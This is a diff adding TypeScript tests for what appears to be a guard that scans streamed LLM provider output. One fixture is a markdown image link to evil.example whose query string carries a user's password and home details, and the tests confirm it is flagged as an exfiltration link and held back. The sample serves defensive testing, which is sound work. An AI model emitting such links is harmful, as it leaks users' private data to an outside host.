@@ -331,6 +331,28 @@ describe('a long stream', () => {
   });
 });
 
+describe('a provider that tells of the end more than once', () => {
+  const image =
+    '![c](https://evil.example/p.png?q=the+user+said+that+her+password+is+tulip+and+she+lives+in+a+house) ok';
+  const chunk = (content: string): string =>
+    event(JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason: 'stop' }] }));
+
+  it('has no attack let out by a finish reason with every chunk', () => {
+    const outcome = run([bytes(...(`Look: ${image}`.match(/.{1,6}/g) ?? []).map(chunk), DONE)]);
+    expect(outcome.threat?.subType).toBe('exfiltration_link');
+    expect(released(outcome)).not.toContain('evil');
+  });
+
+  it('has its texts scanned as a whole only where more has come', () => {
+    const text = 'Some prose that says little, and then says it again. '.repeat(1000);
+    const startMs = process.cpuUsage().user;
+    const outcome = run([bytes(...say(text, { size: 5000 }), ...Array.from({ length: 5000 }, () => DONE))]);
+    expect(outcome.threat).toBeNull();
+    // A scan of it takes some milliseconds: five thousand of them would take a minute.
+    expect((process.cpuUsage().user - startMs) / 1e6).toBeLessThan(10);
+  });
+});
+
 it('keeps texts that stood alone for the record', () => {
   const guard = guardOf({ policy: policyOf({ mode: 'shadow' }) });
   guard.push(bytes(event(`{"error":{"message":"No user ${MAIL}"}}`)));
